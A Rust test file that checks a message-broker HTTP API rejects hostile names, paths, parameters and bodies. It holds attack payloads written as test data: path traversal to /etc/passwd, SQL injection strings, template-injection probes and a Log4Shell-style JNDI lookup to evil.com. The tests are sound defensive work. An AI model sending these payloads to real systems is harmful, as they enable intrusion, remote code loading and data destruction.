//! Paths and names: what is none is refused by the strictness of its alphabet, and never reaches a file or a statement.

use serde_json::json;

use crate::bad_inputs::input::Input;
use crate::bad_inputs::input::all;
use crate::bad_inputs::input::batch;
use crate::bad_inputs::input::delete;
use crate::bad_inputs::input::each;
use crate::bad_inputs::input::get;
use crate::bad_inputs::input::poll;
use crate::bad_inputs::input::post;
use crate::bad_inputs::input::put;
use crate::bad_inputs::input::request;
use crate::bad_inputs::input::value;
use crate::bad_inputs::stage::Stage;
use crate::bad_inputs::table::Row;
use crate::bad_inputs::table::row;
use crate::bad_inputs::table::run;
use crate::bad_inputs::told::Answer::Refused;
use crate::bad_inputs::told::Answer::Says;
use crate::bad_inputs::told::Answer::Taken;
use crate::harness::Backend;
use crate::harness::on_each_backend;

on_each_backend!(every_line_about_names_gets_its_answer);

/// What a database would do if it ever saw it.
const SQL: &str = "'; DROP TABLE batch;--";
const SQL_IN_A_PATH: &str = "';%20DROP%20TABLE%20batch;--";
/// What a program would fill in if it ever took it for a template.
const TEMPLATES: [&str; 6] = ["$1", "{{7*7}}", "${jndi:ldap://evil.com/x}", "#{7*7}", "%s%n", "<%= 7*7 %>"];

/// Every place in a path that takes a name, with this in it.
fn in_each_path(name: &str) -> [Input; 13] {
    let subscription = json!({ "topics": ["orders"] });
    [
        put(format!("/v1/topics/{name}")),
        get(format!("/v1/topics/{name}")),
        request("PATCH", &format!("/v1/topics/{name}")).json("{}"),
        delete(format!("/v1/topics/{name}")),
        post(format!("/v1/topics/{name}/values")).json("1"),
        post(format!("/v1/topics/{name}/records")).json(r#"{"records":[{"value":1}]}"#),
        get(format!("/v1/topics/{name}/records")),
        get(format!("/v1/topics/{name}/partitions/0/records/0/value")),
        get(format!("/v1/groups/{name}")),
        poll(name, "m", &subscription),
        poll("g", name, &subscription),
        post(format!("/v1/groups/{name}/members")).json(subscription.to_string()),
        delete(format!("/v1/groups/{name}")),
    ]
}

/// Every place in a body that takes the name of a topic, with this in it, and in a query.
fn in_each_body(name: &str) -> [Input; 5] {
    [
        poll("g", "m", &json!({ "topics": [name] })),
        poll("g", "m", &json!({ "topics": ["orders", name] })),
        put("/v1/groups/g/offsets").json(json!({ "topic": name, "to": "earliest" }).to_string()),
        post("/v1/groups/g/members/m/offsets")
            .json(json!({ "epoch": 1, "offsets": [{ "topic": name, "partition": 0, "next_offset": 0 }] }).to_string()),
        post("/v1/tickets").json(json!({ "topic": name }).to_string()),
    ]
}

/// Names with one character that the alphabet does not have, as they stand in a path.
const FOREIGN: [&str; 12] =
    ["a%20b", "a%20", "%20a", "a:b", "a'b", "a;b", "a+b", "a*b", "a@b", "a%3Fb", "a%23b", "caf%C3%A9"];

/// Quotes that are never closed, or closed at once.
fn quotes() -> String {
    "\"".repeat(1 << 20)
}

pub(crate) const ROWS: &[Row] = &[
    row(
        &[20],
        "paths that climb lead nowhere",
        |_| {
            each(
                [
                    "/v1/topics/../admin",
                    "/v1/topics/../../etc/passwd",
                    "/../../etc/passwd",
                    "/docs/../../etc/passwd",
                    "/docs/..%2f..%2fetc%2fpasswd",
                    "/docs/%2e%2e/%2e%2e/etc/passwd",
                    "/problems/..%2f..%2fetc%2fpasswd",
                    "/v1/groups/../topics",
                    "/docs/%00",
                    "/v1/../v1/topics",
                    "/v1/./topics",
                ],
                get,
            )
        },
        Refused(404, "unknown_path"),
    ),
    row(
        &[20, 21],
        "parents and slashes as names",
        |_| {
            all(
                [
                    "%2e%2e",
                    "..%2fadmin",
                    "..%5cadmin",
                    "..%5C",
                    "%2e%2e%2f%2e%2e%2f",
                    "a%2Fb",
                    "a%2fb",
                    "%2F",
                    "a%5cb",
                    "%2e%2e%00",
                ],
                in_each_path,
            )
        },
        Refused(400, "invalid_name"),
    ),
    row(
        &[22, 34],
        "NUL as a name and in one",
        |_| all(["%00", "a%00b", "orders%00", "%00orders"], in_each_path),
        Refused(400, "invalid_name"),
    ),
    row(
        &[22, 34],
        "NUL in names of bodies",
        |_| all(["\0", "a\0b", "orders\0"], in_each_body),
        Refused(400, "invalid_name"),
    ),
    row(
        &[23],
        "what is no UTF-8",
        |_| all(["%c0%ae", "%c0%ae%c0%ae", "%c0%80", "%ff", "%ed%a0%80", "%f4%90%80%80", "a%80"], in_each_path),
        Refused(400, "invalid_name"),
    ),
    row(
        &[24],
        "letters of all the world",
        |_| {
            all(
                [
                    "%EF%BC%8E%EF%BC%8E",
                    "%E2%80%AEx",
                    "%F0%9F%98%80",
                    "%E2%80%8Ba",
                    "%EF%BB%BForders",
                    "o%CC%88",
                    "%D0%BErders",
                ],
                in_each_path,
            )
        },
        Refused(400, "invalid_name"),
    ),
    row(
        &[24],
        "letters of all the world in bodies",
        |_| all(["\u{ff0e}\u{ff0e}", "\u{202e}x", "\u{1f600}", "\u{feff}orders", "\u{43e}rders"], in_each_body),
        Refused(400, "invalid_name"),
    ),
    row(
        &[25],
        "names that are reserved, empty or too long",
        |_| all([".", "..", "__x", "__", &"x".repeat(250), &"x".repeat(2_490)], in_each_path),
        Refused(400, "invalid_name"),
    ),
    row(
        &[25],
        "the same in bodies",
        |_| all([".", "..", "__x", "__", "", &"x".repeat(250), &"x".repeat(24_900)], in_each_body),
        Refused(400, "invalid_name"),
    ),
    row(
        &[25],
        "a hundred times too long for a path",
        |_| all([&*"x".repeat(24_900)], in_each_path),
        Refused(414, "uri_too_long"),
    ),
    row(
        &[25],
        "a name that is left out",
        |_| {
            vec![
                get("/v1/topics//records"),
                post("/v1/topics//values").json("1"),
                post("/v1/groups//members/m/poll").json("{}"),
                get("/v1/topics//"),
            ]
        },
        Refused(404, "unknown_path"),
    ),
    row(
        &[25, 26],
        "names just within the rules",
        |_| {
            each(["x".repeat(249).as_str(), "_x", "...", "CON", "nul.txt", "-", "a.b_c-D9"], |name| {
                put(format!("/v1/topics/{name}"))
            })
        },
        Taken(201),
    ),
    row(
        &[26],
        "a slash in a name",
        |_| {
            vec![
                put("/v1/topics/a/b"),
                get("/v1/topics/a/b"),
                post("/v1/topics/a/b/values").json("1"),
                delete("/v1/topics/orders/x"),
            ]
        },
        Refused(404, "unknown_path"),
    ),
    row(
        &[26],
        "blanks at an end, and others that no name has",
        |_| all(FOREIGN, in_each_path),
        Refused(400, "invalid_name"),
    ),
    row(
        &[26],
        "a slash at the end changes nothing",
        |_| {
            vec![
                get("/v1/topics/orders/"),
                get("/v1/topics/"),
                get("/v1/"),
                get("/v1/topics/orders/records/"),
                get("//"),
            ]
        },
        Taken(200),
    ),
    row(
        &[27],
        "slashes twice",
        |_| {
            each(
                [
                    "//v1/topics",
                    "///v1/topics",
                    "/v1//topics",
                    "//evil.com/v1/topics",
                    "/v1/topics//",
                    "/v1/topics/orders//records",
                ],
                get,
            )
        },
        Refused(404, "unknown_path"),
    ),
    row(
        &[28],
        "encoded twice, or not to its end",
        |_| all(["%252e", "%252e%252e", "%252F", "%2500", "a%", "a%zz", "a%2", "%u002e"], in_each_path),
        Refused(400, "invalid_name"),
    ),
    row(
        &[29],
        "partitions that are no number",
        |_| {
            all(
                [
                    "-1",
                    "-0",
                    "1.0",
                    "1e3",
                    "01",
                    "00",
                    "+1",
                    "2147483648",
                    "4294967296",
                    "99999999999999999999",
                    "NaN",
                    "0x0",
                    "%20",
                    "0%20",
                    "%00",
                    "%D9%A0",
                    "x",
                ],
                |number| {
                    [
                        get(format!("/v1/topics/orders/partitions/{number}")),
                        get(format!("/v1/topics/orders/partitions/{number}/records?offset=0")),
                        get(format!("/v1/topics/orders/partitions/{number}/offsets?at=latest")),
                        get(format!("/v1/topics/orders/partitions/{number}/records/0")),
                        delete(format!("/v1/topics/orders/partitions/{number}/records?before_offset=0")),
                        get(format!("/v1/topics/orders/records?partition={number}")),
                        get(format!("/v1/topics/orders/records?partition=0&partition={number}")),
                        post(format!("/v1/topics/orders/values?partition={number}")).json("1"),
                    ]
                },
            )
        },
        Refused(400, "invalid_parameter"),
    ),
    row(
        &[29],
        "partitions of records that are no number",
        |_| {
            each(
                ["-1", "-0.0", "1.0", "1e3", "1.5", "2147483648", "4294967296", "1e400", r#""0""#, "true", "[0]", "{}"],
                |number| batch(format!(r#"{{"value":1,"partition":{number}}}"#)),
            )
        },
        Refused(400, "invalid_record"),
    ),
    row(
        &[29],
        "partitions of records that are no JSON",
        |_| {
            each(["01", "+1", "NaN", "0x0", ".0", "1."], |number| {
                batch(format!(r#"{{"value":1,"partition":{number}}}"#))
            })
        },
        Refused(400, "malformed_json"),
    ),
    row(
        &[29],
        "partitions that there are not",
        |_| {
            all(["1", "9", "2147483647"], |number| {
                [
                    get(format!("/v1/topics/orders/partitions/{number}")),
                    get(format!("/v1/topics/orders/records?partition={number}")),
                    post(format!("/v1/topics/orders/values?partition={number}")).json("1"),
                    batch(format!(r#"{{"value":1,"partition":{number}}}"#)),
                    delete(format!("/v1/topics/orders/partitions/{number}/records?before_offset=0")),
                ]
            })
        },
        Refused(404, "unknown_partition"),
    ),
    row(
        &[30, 32],
        "statements and templates as names in paths",
        |_| {
            all(
                [
                    SQL_IN_A_PATH,
                    "orders'--",
                    "1%20OR%201=1",
                    "$1",
                    "%7B%7B7*7%7D%7D",
                    "$%7Bjndi:ldap:%2F%2Fevil.com%2Fx%7D",
                ],
                in_each_path,
            )
        },
        Refused(400, "invalid_name"),
    ),
    row(
        &[30, 32],
        "the same as names in bodies",
        |_| all(TEMPLATES.into_iter().chain([SQL, "orders' OR '1'='1", "orders\"--"]), in_each_body),
        Refused(400, "invalid_name"),
    ),
    row(
        &[30],
        "statements as topics of records",
        |_| vec![post("/v1/records").json(json!({ "records": [{ "topic": SQL, "value": 1 }] }).to_string())],
        Refused(400, "invalid_record"),
    ),
    row(
        &[30],
        "statements as prefixes of topics",
        |_| vec![poll("g", "m", &json!({ "topic_prefix": SQL }))],
        Refused(400, "invalid_parameter"),
    ),
    row(
        &[30, 32],
        "statements as cursors",
        |_| {
            let orders = "/v1/topics/orders/records";
            vec![
                get(format!("{orders}?cursor={SQL_IN_A_PATH}")),
                get(format!("{orders}?format=sse&last_event_id={SQL_IN_A_PATH}")),
                get(orders).with("Accept: text/event-stream").with(format!("Last-Event-ID: {SQL}")),
                poll("g", "m", &json!({ "cursor": SQL })),
                post("/v1/groups/g/members/m/offsets").json(json!({ "cursor": SQL }).to_string()),
                get(format!("{orders}?cursor=$1")),
                poll("g", "m", &json!({ "cursor": "${jndi:x}" })),
            ]
        },
        Refused(400, "invalid_cursor"),
    ),
    row(
        &[30],
        "statements as parameters",
        |_| {
            each(
                [
                    "/v1/topics?page_token=SQL",
                    "/v1/topics?limit=SQL",
                    "/v1/groups?page_token=SQL",
                    "/v1/keys?page_token=SQL",
                    "/v1/topics/orders/records?from=SQL",
                    "/v1/topics/orders/records?format=SQL",
                    "/v1/topics/orders/records?max_records=SQL",
                    "/v1/topics/orders/records?lag=SQL",
                    "/v1/topics/orders/partitions/SQL",
                    "/v1/topics/orders/partitions/0/records/SQL",
                    "/v1/topics/orders/partitions/0/offsets?at=SQL",
                    "/v1/topics/orders/partitions/0/records?offset=SQL",
                ],
                |target| get(target.replace("SQL", SQL_IN_A_PATH)),
            )
        },
        Refused(400, "invalid_parameter"),
    ),
    row(
        &[30],
        "statements as names of parameters",
        |_| {
            vec![
                get(format!("/v1/topics?{SQL_IN_A_PATH}=1")),
                get(format!("/v1/topics/orders/records?{SQL_IN_A_PATH}")),
            ]
        },
        Refused(400, "unknown_parameter"),
    ),
    row(
        &[30],
        "statements as ids of keys",
        |_| {
            vec![
                get(format!("/v1/keys/{SQL_IN_A_PATH}")),
                delete(format!("/v1/keys/{SQL_IN_A_PATH}")),
                delete("/v1/keys/%00"),
                delete("/v1/keys/%25"),
            ]
        },
        Refused(404, "unknown_api_key"),
    ),
    row(
        &[30, 32],
        "statements and templates where any text may stand",
        |_| {
            let orders = "/v1/topics/orders/records";
            let headers = [
                "X-Request-Id",
                "If-None-Match",
                "User-Agent",
                "Referer",
                "Cookie",
                "X-Forwarded-For",
                "Accept-Language",
            ];
            let headers = headers.map(|name| get(orders).with(format!("{name}: {SQL}")));
            let keys = [SQL_IN_A_PATH, "$1", "%7B%7B7*7%7D%7D", "%00", "%25", "_"]
                .map(|key| get(format!("{orders}?key={key}")));
            headers.into_iter().chain(keys).collect()
        },
        Taken(200),
    ),
    row(
        &[31, 30],
        "a prefix is no pattern",
        |_| {
            each(
                [
                    "%25",
                    "%25%25",
                    "_rders",
                    "o_ders",
                    "orders%25",
                    "%5C%25",
                    "*",
                    "o*",
                    "%2A",
                    ".%2A",
                    "%5Bo%5D",
                    SQL_IN_A_PATH,
                    "%00",
                    "%E2%80%AE",
                    "ORDERS",
                ],
                |prefix| get(format!("/v1/topics?prefix={prefix}")),
            )
        },
        Says(200, r#""topics":[]"#),
    ),
    row(
        &[31],
        "a prefix is no pattern for members either",
        |_| each(["%", "o%", "*", "o*", "\\", "\0"], |prefix| poll("g", "m", &json!({ "topic_prefix": prefix }))),
        Refused(400, "invalid_parameter"),
    ),
    row(
        &[33],
        "a mebibyte of quotes as JSON",
        |_| {
            vec![
                value(quotes()),
                post("/v1/topics/orders/records").json(quotes()),
                post("/v1/topics/orders/records").ndjson(quotes()),
                post("/v1/topics/orders/records?atomic=true").ndjson(quotes()),
                post("/v1/groups/g/members/m/poll").json(quotes()),
                batch(quotes()),
            ]
        },
        Refused(400, "malformed_json"),
    ),
    row(
        &[33],
        "a mebibyte of quotes where no records are",
        |_| vec![put("/v1/topics/made").json(quotes()), post("/v1/keys").json(quotes())],
        Refused(413, "request_too_large"),
    ),
    row(
        &[33],
        "a mebibyte of quotes in a value that has room for less",
        |_| {
            vec![
                value(serde_json::to_string(&quotes()).expect("a text is JSON")),
                post("/v1/topics/orders/values").typed("text/plain", quotes()),
            ]
        },
        Refused(413, "record_too_large"),
    ),
    row(
        &[33],
        "a mebibyte of quotes as a key",
        |_| vec![batch(json!({ "key": quotes(), "value": 1 }))],
        Refused(400, "invalid_record"),
    ),
    row(
        &[33],
        "a mebibyte of quotes in a head",
        |_| {
            vec![
                get(format!("/v1/topics/{}", quotes())),
                get("/v1").with(format!("X: {}", quotes())),
                get("/v1/topics/orders/records").with(format!("Last-Event-ID: {}", quotes())),
            ]
        },
        Refused(431, "headers_too_large"),
    ),
];

async fn every_line_about_names_gets_its_answer(backend: Backend) {
    run("names", backend, ROWS, &Stage::set(backend).await).await;
}
